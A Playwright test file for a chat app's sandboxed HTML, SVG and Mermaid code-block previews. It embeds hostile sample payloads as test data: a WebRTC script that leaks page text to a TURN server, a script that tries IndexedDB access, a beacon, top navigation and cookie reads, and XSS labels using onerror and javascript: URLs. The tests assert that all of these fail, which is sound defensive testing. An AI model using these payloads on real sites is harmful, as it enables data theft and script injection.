/**
 * Code-block previews (issue 11): an HTML, SVG or Mermaid block gets "Preview", shown in a
 * sandboxed, network-less iframe. The HTML case is hostile: the model's page tries to open the
 * app's IndexedDB through `parent`, beacon to the mock server, navigate the top page and read
 * cookies. Its own inline script runs (the preview page has a policy of its own that allows inline
 * script and nothing on the network) and writes each outcome into the frame's DOM, read back
 * through `frameLocator`.
 */
import { assistantMessages, openConfigured, sendAndWait } from "./app";
import { expect, test } from "./fixtures";

const ATTEMPTS = `
const out = (id, text) => { document.getElementById(id).textContent = text; };
const tryIt = async (id, fn) => {
  try { await fn(); out(id, id + ": SUCCEEDED"); } catch (e) { out(id, id + ": failed (" + (e && e.name) + ")"); }
};
const beacon = BEACON_URL;
await tryIt("idb", () => new Promise((resolve, reject) => {
  const req = parent.indexedDB.open("grove");
  req.onsuccess = () => resolve(req.result);
  req.onerror = () => reject(req.error);
}));
await tryIt("fetch", () => fetch(beacon));
await tryIt("top", () => { top.location = beacon + "?nav"; });
await tryIt("cookie", () => { if (document.cookie === undefined) throw new Error("no cookie"); });
out("script", "script: ran");
`;

function hostileHtml(beacon: string): string {
  const ids = ["script", "idb", "fetch", "top", "cookie"];
  const body = ids.map((id) => `<p id="${id}">${id}: untried</p>`).join("\n");
  // The same attempts as the inline script the model wrote, so the two can never drift apart.
  const script = `(async () => {${ATTEMPTS.replace("BEACON_URL", JSON.stringify(beacon))}})();`;
  return `${body}\n<script>${script}</script>`;
}

test("a preview runs no script until the user chooses Run scripts: a WebRTC leak never starts (issue 24.3)", async ({
  page,
  mock,
}) => {
  // The reported leak: a script in the preview opened an RTCPeerConnection to a TURN server with
  // page content in the username. By default no script of the page runs at all.
  const leak = `<p id="script">script: untried</p><p>Secret: the conversation</p>
<script>
document.getElementById("script").textContent = "script: ran";
const pc = new RTCPeerConnection({ iceServers: [{ urls: "turn:198.51.100.7:3478", username: document.body.innerText.slice(0, 60), credential: "x" }] });
pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
</script>`;
  mock.enqueue("anthropic", { text: `Here:\n\n\`\`\`html\n${leak}\n\`\`\`\n` });
  await openConfigured(page, mock);
  await sendAndWait(page, "Make me a page");
  const reply = assistantMessages(page).last();
  await reply.getByRole("button", { name: "Preview" }).click();
  const frameElement = reply.locator('iframe[title="Preview"]');
  await expect(frameElement).toHaveAttribute("sandbox", "");
  const frame = page.frameLocator('iframe[title="Preview"]');
  // The page displays (its HTML is there) but its script never ran.
  await expect(frame.locator("#script")).toHaveText("script: untried");
  await expect(frame.getByText("Secret: the conversation")).toBeVisible();
  await expect(reply.getByText(/may send data out/)).toBeVisible();
  await expect(reply.getByRole("button", { name: "Run scripts" })).toBeVisible();
  await reply.screenshot({ path: test.info().outputPath("inert-preview.png") });
});

test("an HTML preview runs sandboxed: no IndexedDB, no network, no top navigation, no cookies", async ({
  page,
  mock,
}) => {
  const beacon = `${mock.url}/beacon`;
  mock.enqueue("anthropic", { text: `Here you go:\n\n\`\`\`html\n${hostileHtml(beacon)}\n\`\`\`\n` });
  await openConfigured(page, mock);
  await sendAndWait(page, "Make me a page");
  const appUrl = page.url();

  const reply = assistantMessages(page).last();
  await reply.getByRole("button", { name: "Preview" }).click();
  const frameElement = reply.locator('iframe[title="Preview"]');
  await reply.getByRole("button", { name: "Run scripts" }).click();
  await expect(frameElement).toHaveAttribute("sandbox", "allow-scripts");
  const frame = page.frameLocator('iframe[title="Preview"]');
  // The model's own script runs (it changes the page it is in) and every attempt fails.
  await expect(frame.locator("#script")).toHaveText("script: ran");
  for (const id of ["idb", "fetch", "top", "cookie"]) {
    await expect(frame.locator(`#${id}`)).toHaveText(new RegExp(`^${id}: failed`));
  }
  // The preview page carries its own policy: no network, framed by the app only.
  const served = await page.request.get("/preview.html");
  const policy = served.headers()["content-security-policy"] ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("script-src 'unsafe-inline'");
  expect(policy).toContain("frame-ancestors 'self'");
  expect(policy).not.toContain("'self' https:");

  expect(mock.requests({ includePreflight: true }).filter((r) => r.path === "/beacon")).toEqual([]);
  expect(page.url()).toBe(appUrl);
  await reply.screenshot({ path: test.info().outputPath("html-preview.png") });

  // The button toggles the preview closed again.
  await reply.getByRole("button", { name: "Preview" }).click();
  await expect(frameElement).toHaveCount(0);
});

test("an SVG preview shows the drawing; a Mermaid preview renders its diagram", async ({ page, mock }) => {
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><circle id="dot" cx="60" cy="40" r="30" fill="tomato"/></svg>';
  mock.enqueue(
    "anthropic",
    { text: `A dot:\n\n\`\`\`svg\n${svg}\n\`\`\`\n` },
    { text: "A graph:\n\n```mermaid\ngraph TD; Alpha-->Beta\n```\n" },
  );
  // Mermaid renders in the app's page: it must do so within the app's own CSP.
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const loaded: string[] = [];
  page.on("request", (r) => loaded.push(r.url()));
  await openConfigured(page, mock);
  await sendAndWait(page, "Draw a dot");
  const svgReply = assistantMessages(page).last();
  await svgReply.getByRole("button", { name: "Preview" }).click();
  const svgFrame = svgReply.frameLocator('iframe[title="Preview"]');
  await expect(svgFrame.locator("svg circle#dot")).toBeVisible();
  await svgReply.screenshot({ path: test.info().outputPath("svg-preview.png") });

  await page.emulateMedia({ colorScheme: "dark" });
  // Mermaid (a large library) is fetched only when a Mermaid block is shown.
  expect(loaded.filter((u) => /mermaid/i.test(u))).toEqual([]);
  await sendAndWait(page, "Draw a graph");
  const mermaidReply = assistantMessages(page).last();
  // A finished Mermaid block shows as its diagram without a click; "Preview" is pressed.
  await expect(mermaidReply.getByRole("button", { name: "Preview" })).toHaveAttribute("aria-pressed", "true");
  const mermaidFrame = mermaidReply.frameLocator('iframe[title="Preview"]');
  await expect(mermaidFrame.locator("svg")).toBeVisible({ timeout: 15_000 });
  expect(loaded.some((u) => /mermaid/i.test(u))).toBe(true);
  await expect(mermaidFrame.locator("svg")).toContainText("Alpha");
  await expect(mermaidFrame.locator("svg")).toContainText("Beta");
  await mermaidReply.screenshot({ path: test.info().outputPath("mermaid-preview-dark.png") });
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
  // "Preview" still toggles: off shows the code only.
  await mermaidReply.getByRole("button", { name: "Preview" }).click();
  await expect(mermaidReply.locator('iframe[title="Preview"]')).toHaveCount(0);
});

test("a wide code block can be scrolled from the keyboard", async ({ page, mock }) => {
  mock.enqueue("anthropic", { text: `\`\`\`js\nconst x = "${"w".repeat(400)}";\n\`\`\`\n` });
  await openConfigured(page, mock);
  await sendAndWait(page, "Long line");
  const pre = assistantMessages(page).last().locator("pre");
  await pre.focus();
  await expect(pre).toBeFocused();
  await page.keyboard.press("ArrowRight");
  await expect.poll(() => pre.evaluate((el) => el.scrollLeft)).toBeGreaterThan(0);
});

test("a Mermaid block that does not parse says so, in its message only", async ({ page, mock }) => {
  mock.enqueue("anthropic", { text: "Broken:\n\n```mermaid\ngraph TD; A-->\n```\n" });
  await openConfigured(page, mock);
  await sendAndWait(page, "Broken graph");
  const reply = assistantMessages(page).last();
  await expect(reply.getByRole("alert")).toContainText("Could not render the diagram", { timeout: 15_000 });
  await expect(reply.locator('iframe[title="Preview"]')).toHaveCount(0);
  // Mermaid's scratch element and error drawing are not left in the app's page.
  await expect(page.locator('[id^="dgrove-mermaid-"], [id^="grove-mermaid-"]')).toHaveCount(0);
});

test("a Mermaid diagram with hostile labels never puts markup or handlers into Grove's page (issue 30.4)", async ({
  page,
  mock,
}) => {
  const diagram = [
    "graph TD",
    `  A["<img src=x onerror=window.__pwned=1>"] --> B["<a href='javascript:window.__pwned=2'>b</a>"]`,
    `  B --> C["<iframe srcdoc='<script>parent.__pwned=3</script>'></iframe>"]`,
    `  C --> D["<svg><script>window.__pwned=4</script></svg><b onmouseover=window.__pwned=5>d</b>"]`,
  ].join("\n");
  mock.enqueue("anthropic", { text: `A graph:\n\n\`\`\`mermaid\n${diagram}\n\`\`\`\n` });
  // Everything that enters Grove's own document (not the preview frames'): no element that runs or
  // loads anything, no handler attribute, no HTML label box, at any moment of the render.
  await page.addInitScript(() => {
    const hostile: string[] = [];
    (window as unknown as { __hostile: string[] }).__hostile = hostile;
    const check = (el: Element) => {
      const tag = el.tagName.toLowerCase();
      if (["img", "iframe", "script", "object", "embed", "foreignobject", "a"].includes(tag) && el.closest("svg")) {
        hostile.push(tag);
      }
      for (const attr of el.getAttributeNames()) {
        const value = el.getAttribute(attr) ?? "";
        if (attr.startsWith("on") || /^\s*javascript:/i.test(value)) hostile.push(`${tag}@${attr}`);
      }
    };
    new MutationObserver((records) => {
      for (const r of records) {
        for (const node of r.addedNodes) {
          if (!(node instanceof Element)) continue;
          check(node);
          for (const el of node.querySelectorAll("*")) check(el);
        }
        if (r.type === "attributes" && r.target instanceof Element) check(r.target);
      }
    }).observe(document, { subtree: true, childList: true, attributes: true });
  });
  await openConfigured(page, mock);
  await sendAndWait(page, "Draw a graph");
  const reply = assistantMessages(page).last();
  const frame = reply.frameLocator('iframe[title="Preview"]');
  const figure = frame.locator("body > figure > svg, body > svg").first();
  await expect(figure).toBeVisible({ timeout: 15_000 });
  const srcdoc = (await reply.locator('iframe[title="Preview"]').getAttribute("srcdoc")) ?? "";
  expect(srcdoc).not.toMatch(/onerror|onmouseover|javascript:|<script|<iframe|<img/i);
  expect(await page.evaluate(() => (window as unknown as { __hostile: string[] }).__hostile)).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
});
